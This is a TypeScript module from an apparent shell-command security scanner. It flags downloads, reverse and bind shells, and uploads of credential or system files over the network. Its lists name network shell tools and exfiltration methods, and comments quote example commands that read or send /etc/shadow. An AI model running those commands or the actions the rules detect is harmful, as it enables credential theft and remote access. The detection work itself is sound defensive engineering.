// Network rules for one shell command: downloads (high, and the files they write are remembered
// for "downloaded then run"), raw network clients that hand out a shell (nc -e, socat exec:,
// socket -p: reverse and bind shells, critical), and uploads of credential or system files by any
// means (curl -d @file, wget --post-file, scp/rsync to a host, stdin redirected into a network
// client, mail attachments, put in an ftp session, a file's content in an argument next to a host).

import { quote } from './findings.ts';
import { looksLikePath, normalizePath, pathsInText, sensitiveFile } from './paths.ts';
import { secretFile } from './secret-files.ts';
import { writeTarget, uploadedFile, type RuleContext } from './shell-rule-context.ts';
import { hasFlag, optionValues, parseOptions } from './shell-options.ts';
import { commandName } from './shell-wrappers.ts';

const set = (...items: string[]): ReadonlySet<string> => new Set(items);

/** Fetch content from the network. */
const DOWNLOADERS = set(
  'curl',
  'wget',
  'fetch',
  'aria2c',
  'axel',
  'lwp-download',
  'lwp-request',
  'get',
  'http',
  'https',
  'xh',
  'httpie',
  'curlie',
  'wget2',
  'invoke-webrequest',
  'iwr',
);

/** Raw network clients and listeners that can carry a shell. */
const NET_CLIENTS = set(
  'nc',
  'ncat',
  'netcat',
  'nc.traditional',
  'nc.openbsd',
  'telnet',
  'socat',
  'openssl',
  'cryptcat',
  'sbd',
  'pwncat',
  'socket',
  'gnutls-cli',
  'rlogin',
  'rsh',
);

/** Commands that can send a local file elsewhere; an operand naming a sensitive file is an upload. */
const UPLOADERS = set(
  'curl',
  'wget',
  'nc',
  'ncat',
  'netcat',
  'telnet',
  'scp',
  'rsync',
  'sftp',
  'ftp',
  'tftp',
  'ab',
  'http',
  'https',
  'xh',
  'lp',
  'hping3',
  'restic',
  'rclone',
  's3cmd',
  'gsutil',
  'aws',
  'az',
  'azcopy',
  'tailscale',
  'whois',
  'finger',
  'dig',
  'nslookup',
  'host',
  'ping',
  'lwp-request',
  'post',
  'irc',
  'ngrok',
  'cloudflared',
  'transfer',
  'croc',
  'magic-wormhole',
  'wormhole',
  'gh',
  'put',
  'mput',
);

const CURL_DATA_OPTIONS = [
  '-d',
  '--data',
  '--data-binary',
  '--data-ascii',
  '--data-urlencode',
  '--data-raw',
  '--json',
  '-F',
  '--form',
  '--form-string',
  '-T',
  '--upload-file',
];

const CURL_VALUE_OPTIONS = set(
  ...CURL_DATA_OPTIONS,
  '-o',
  '--output',
  '-H',
  '--header',
  '-X',
  '--request',
  '-u',
  '--user',
  '-A',
  '--user-agent',
  '-e',
  '--referer',
  '-b',
  '--cookie',
  '-c',
  '--cookie-jar',
  '-w',
  '--write-out',
  '-x',
  '--proxy',
  '-m',
  '--max-time',
  '--connect-timeout',
  '-K',
  '--config',
  '-E',
  '--cert',
  '--key',
  '--cacert',
  '-r',
  '--range',
  '-C',
  '--continue-at',
  '--retry',
  '-U',
  '--proxy-user',
  '--url',
  '--output-dir',
  '--resolve',
);

const WGET_VALUE_OPTIONS = set(
  '-O',
  '--output-document',
  '-o',
  '--output-file',
  '-a',
  '--append-output',
  '-P',
  '--directory-prefix',
  '--post-data',
  '--post-file',
  '--body-data',
  '--body-file',
  '--method',
  '--header',
  '-U',
  '--user-agent',
  '-i',
  '--input-file',
  '-t',
  '--tries',
  '-T',
  '--timeout',
  '--user',
  '--password',
  '-e',
  '--execute',
  '-Q',
  '--quota',
  '-l',
  '--level',
);

/** Options whose value names a file that is sent (`--post-file=`, `--upload-file=`, `--attach=`). */
const FILE_SENDING_OPTION = /^--?[\w-]*(?:file|data|upload|post|body|form|attach|input)[\w-]*=(.+)$/i;

/** An address of another host among the arguments (an IP, a URL, `host:port`, `user@host:`). */
const REMOTE_ARGUMENT = /^(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?$|^[a-z][\w+.-]*:\/\/[^/]|^[\w.-]+\.[a-z]{2,}:\d{2,5}$|^[\w.-]+@[\w.-]+:/i;

/** Runs the rules of the network commands (downloaders, raw clients, uploaders) that apply to `c`. */
export function networkCommandRules(c: RuleContext): void {
  if (DOWNLOADERS.has(c.name)) downloadRule(c);
  if (NET_CLIENTS.has(c.name)) netClientRule(c);
  if (UPLOADERS.has(c.name)) uploadRule(c);
}

/** For commands that are not known network tools: content of sensitive files sent to a host. */
export function anyCommandExfiltration(c: RuleContext): void {
  if (!UPLOADERS.has(c.name) && !NET_CLIENTS.has(c.name)) networkExfiltration(c);
}

/** mail, mutt, sendmail, swaks: a sensitive attachment or a sensitive file as the message. */
export function mailRule(c: RuleContext): void {
  const parsed = parseOptions(
    c.args,
    set(
      '-a',
      '-A',
      '-s',
      '-c',
      '-b',
      '-r',
      '-F',
      '-f',
      '-S',
      '-e',
      '-i',
      '--attach',
      '--attach-body',
      '--body',
      '--to',
      '--from',
      '--server',
      '--header',
    ),
  );
  // swaks reads a file for `--attach @FILE` and `--body @FILE`; `@` is not part of the path.
  const attachment = [
    ...optionValues(parsed, '-a'),
    ...(c.name === 'mutt' || c.name === 'neomutt' ? [] : optionValues(parsed, '-A')),
    ...optionValues(parsed, '--attach', '--attach-body', '--body'),
  ]
    .map((word) => word.text.replace(/^@/, ''))
    .find((text) => sensitiveIn(c.scan, text) !== undefined);
  if (attachment !== undefined) c.scan.add('critical', `shell: mails ${sensitiveIn(c.scan, attachment)} ${quote(attachment)} (${c.name})`);
  else uploadStdin(c);
  c.scan.add('high', `shell: sends e-mail (${c.name})`);
}

/** smbclient -c, lftp -e: their command strings are a session of transfer commands (put is an upload). */
export function transferClientRule(c: RuleContext): void {
  const parsed = parseOptions(c.args, set('-c', '--command', '-U', '-W', '-p', '-I', '-A', '-n', '-m', '-e', '-u'));
  for (const command of optionValues(parsed, '-c', '--command', '-e')) c.scan.nested(command.text, `${c.name} -c`);
  c.scan.add('high', `shell: file transfer to another host (${c.name})`);
}

/** curl, wget …: a plain download is high; the file it writes is remembered. */
function downloadRule(c: RuleContext): void {
  c.summary.downloader = true;
  const valueOptions = c.name === 'wget' || c.name === 'wget2' ? WGET_VALUE_OPTIONS : CURL_VALUE_OPTIONS;
  const parsed = parseOptions(c.args, valueOptions);
  const outputs = optionValues(parsed, '-o', '--output', '-O', '--output-document');
  const urls = parsed.operands.filter((word) => /^(?:https?|ftp|s?ftp):\/\//i.test(word.text) || /^[\w.-]+\.[a-z]{2,}\//i.test(word.text));
  if (c.name === 'curl' && hasFlag(parsed, 'O', '--remote-name')) {
    for (const url of urls) outputs.push({ ...url, text: url.text.replace(/[?#].*$/, '').replace(/.*\//, '') });
  }
  if ((c.name === 'wget' || c.name === 'wget2') && outputs.length === 0) {
    for (const url of urls) outputs.push({ ...url, text: url.text.replace(/[?#].*$/, '').replace(/.*\//, '') || 'index.html' });
  }
  if (c.name === 'lwp-download' && parsed.operands.length > 1) outputs.push(parsed.operands[1]);
  const toStdout = outputs.some((word) => word.text === '-');
  for (const output of outputs) {
    if (output.text === '-' || output.text === '') continue;
    c.scan.downloaded.add(normalizePath(output.text));
    c.scan.downloaded.add(commandName(output.text));
    writeTarget(c, output.text, c.name, '>');
  }
  if (outputs.length > 0 && !toStdout) c.summary.downloader = false;
  for (const redirect of c.site.redirs) {
    if (redirect.op === 54 || redirect.op === 55 || redirect.op === 60 || redirect.op === 64) {
      c.scan.downloaded.add(normalizePath(redirect.target.text));
      c.scan.downloaded.add(commandName(redirect.target.text));
    }
  }
  const uploading =
    c.name === 'curl'
      ? CURL_DATA_OPTIONS.some((option) => parsed.values.has(option))
      : parsed.values.has('--post-file') || parsed.values.has('--post-data') || parsed.values.has('--body-file');
  c.scan.add('high', uploading ? `shell: sends data over the network (${c.name})` : `shell: downloads from the network (${c.name})`);
}

/** nc -e, ncat --exec, socat … exec:, socket -p: a shell handed to the network. */
function netClientRule(c: RuleContext): void {
  c.summary.netClient = c.name;
  const texts = c.args.map((word) => word.text);
  if (c.name === 'socat') {
    const addresses = texts.filter((text) => !text.startsWith('-') || text === '-');
    const exec = addresses.some((text) => /^(?:exec|system):/i.test(text));
    const network = addresses.some((text) =>
      /^(?:tcp|tcp4|tcp6|udp|udp4|udp6|ssl|openssl|sctp|socks\d?|proxy|tcp-l(?:isten)?|tcp4-l(?:isten)?|udp-l(?:isten)?|openssl-listen|ssl-l)\b/i.test(
        text,
      ),
    );
    if (exec && network) {
      c.scan.add('critical', `shell: socat connects a shell to the network (${quote(texts.join(' '))})`);
      return;
    }
    if (network) {
      const oneWay = texts.includes('-u') || texts.includes('-U');
      addresses.forEach((address, index) => {
        const file = /^(?:file|open|gopen|create|creat):([^,]+)/i.exec(address)?.[1];
        if (file === undefined) return;
        const sending = !oneWay || (texts.includes('-u') ? index === 0 : index === addresses.length - 1);
        const why = sensitiveIn(c.scan, file);
        if (sending && why !== undefined) c.scan.add('critical', `shell: socat sends ${why} ${quote(file)} over the network`);
        if (!sending || !oneWay) writeTarget(c, file, 'socat', '>');
      });
    }
  } else if (c.name === 'openssl') {
    if (!texts.some((text) => /^s_(?:client|server)$/.test(text))) {
      c.summary.netClient = undefined;
      return;
    }
    uploadRule(c);
  } else if (c.name === 'socket') {
    if (texts.some((text) => /^-\w*p/.test(text)))
      c.scan.add('critical', `shell: socket -p hands a program to the network (${quote(texts.join(' '))})`);
  } else {
    const parsed = parseOptions(
      c.args,
      set(
        '-e',
        '-c',
        '--exec',
        '--sh-exec',
        '--lua-exec',
        '-p',
        '-s',
        '-w',
        '-i',
        '-q',
        '-x',
        '-X',
        '-b',
        '-T',
        '-I',
        '-O',
        '-P',
        '-G',
        '-g',
        '-m',
        '-W',
        '--source',
        '--proxy',
        '--proxy-type',
      ),
    );
    const exec = optionValues(parsed, '-e', '-c', '--exec', '--sh-exec', '--lua-exec');
    if (exec.length > 0 && c.name !== 'telnet') {
      const listen = hasFlag(parsed, 'l', '--listen');
      c.scan.add(
        'critical',
        `shell: ${c.name} ${listen ? 'listens and runs' : 'connects and runs'} ${quote(exec[0].text)} (${listen ? 'bind' : 'reverse'} shell)`,
      );
      return;
    }
  }
  c.scan.add('high', `shell: opens a raw network connection (${c.name})`);
}

/** Standard input read from a sensitive file, for commands that send their input. */
function uploadStdin(c: RuleContext): boolean {
  for (const redirect of c.site.redirs) {
    if (redirect.op !== 56 && redirect.op !== 57) continue;
    const why = sensitiveIn(c.scan, redirect.target.text);
    if (why !== undefined) {
      c.scan.add('critical', `shell: sends ${why} ${quote(redirect.target.text)} over the network (${c.name} < file)`);
      return true;
    }
  }
  return false;
}

/** HTTP clients whose upload options send a file to whatever URL they are given. */
const HTTP_UPLOADERS = new Set(['curl', 'wget', 'xh', 'http', 'https']);
/**
 * A database dump by its name (`db.dump`, `users.bson`, `prod.sql.gz`, `nightly-backup.sql`): all the
 * rows of a database. A plain `.sql` counts only when its name says dump or backup (`migration.sql`
 * sent to a schema service is no dump).
 */
const DATABASE_DUMP_FILE =
  /^\S*\.(?:dump|pgdump|bson|rdb)(?:\.(?:gz|bz2|xz|zst|zip|7z))?$|^\S*\.sql\.(?:gz|bz2|xz|zst|zip|7z)$|^(?:\S*[/_.-])?(?:dump|backup|bak|full|all|db)[\w.-]*\.sql$|^\S*(?:dump|backup)\.sql$/i;

/** Any command that can send files: a credential or system file among its arguments is an upload. */
export function uploadRule(c: RuleContext): void {
  if (uploadStdin(c)) return;
  for (const redirect of c.site.redirs) {
    if (redirect.op !== 56 && redirect.op !== 57) continue;
    const why = sensitiveIn(c.scan, redirect.target.text);
    if (why !== undefined) {
      c.scan.add('critical', `shell: sends ${why} ${quote(redirect.target.text)} over the network (${c.name} < file)`);
      return;
    }
  }
  for (const word of c.args) {
    if (word.sensitiveRead !== undefined) {
      c.scan.add('critical', `shell: sends ${word.sensitiveRead} over the network (${c.name} with its content)`);
      return;
    }
    const text = word.text;
    if (/^file:\/\//i.test(text)) {
      // `curl file:///etc/shadow` reads a local file; where it goes is up to the pipe.
      const why = sensitiveIn(c.scan, text.slice(7));
      if (why !== undefined) c.summary.readsSensitive = { path: text.slice(7), why };
      continue;
    }
    if (text.includes('://')) continue;
    const optionValue = FILE_SENDING_OPTION.exec(text)?.[1];
    const candidates = [uploadedFile(optionValue ?? text) ?? optionValue ?? text];
    if (/\s/.test(text)) candidates.push(...pathsInText(text));
    for (const candidate of candidates) {
      const dump = HTTP_UPLOADERS.has(c.name) && DATABASE_DUMP_FILE.test(candidate);
      if (!dump && !looksLikePath(candidate) && !/^[\w.-]+\/|^\.\w/.test(candidate)) continue;
      const why = sensitiveIn(c.scan, candidate) ?? (dump ? 'database dump' : undefined);
      if (why === undefined) continue;
      if (c.name === 'scp' || c.name === 'rsync') {
        const last = c.args[c.args.length - 1];
        if (last === word || !/^[\w.-]*@?[\w.-]+:/.test(last.text)) continue;
      }
      if ((c.name === 'curl' || c.name === 'wget') && uploadedFile(text) === undefined && !/^--(?:post|body|upload)-file=/.test(text)) {
        // A plain operand of curl or wget is a URL or an output, not an upload.
        const index = c.args.indexOf(word);
        const previous = index > 0 ? c.args[index - 1].text : '';
        if (!/^(?:-T|--upload-file|--post-file|--body-file|-d|--data[-\w]*|-F|--form)$/.test(previous)) continue;
      }
      c.scan.add('critical', `shell: uploads ${why} ${quote(candidate)} (${c.name})`);
      return;
    }
  }
}

/** Any command given a remote location (`user@host:path`) and a sensitive local file sends it there (tar, scp, rsync…). */
export function remoteCopyRule(c: RuleContext): void {
  if (c.name === 'ssh' || c.name === 'scp' || c.name === 'rsync') return;
  const remote = c.args.find((word) => /^[\w.-]+@[\w.-]+:|^[\w.-]+:\/\//.test(word.text) && !/^(?:https?|ftp|file):/i.test(word.text));
  if (remote === undefined) return;
  for (const word of c.args) {
    if (word === remote || !looksLikePath(word.text)) continue;
    const why = sensitiveIn(c.scan, word.text);
    if (why !== undefined) {
      c.scan.add('critical', `shell: sends ${why} ${quote(word.text)} to ${quote(remote.text)} (${c.name})`);
      return;
    }
  }
}

/** Any program given another host and a credential or system file's content (`cancel -u "$(cat /etc/shadow)" -h 10.0.0.1`). */
function networkExfiltration(c: RuleContext): void {
  if (!c.args.some((word) => REMOTE_ARGUMENT.test(word.text) && !/^file:/i.test(word.text))) return;
  const leaked = c.args.find((word) => word.sensitiveRead !== undefined);
  if (leaked !== undefined) {
    c.scan.add('critical', `shell: sends ${leaked.sensitiveRead} to another host (${c.name})`);
    return;
  }
  for (const word of c.args) {
    const file = uploadedFile(word.text);
    const why = file === undefined ? undefined : sensitiveIn(c.scan, file);
    if (file !== undefined && why !== undefined && looksLikePath(file)) {
      c.scan.add('critical', `shell: sends ${why} ${quote(file)} to another host (${c.name})`);
      return;
    }
  }
  uploadStdin(c);
}

/** A sensitive file, or a local copy of one made earlier in the script (`env > /tmp/e`, `cp ~/.ssh/id_rsa k`). */
function sensitiveIn(scan: { secretCopies: Map<string, string> }, path: string): string | undefined {
  // Browser cookie stores, mounted secrets and other secret stores leak as surely as credential files.
  return sensitiveFile(path) ?? secretFile(path) ?? scan.secretCopies.get(normalizePath(path));
}
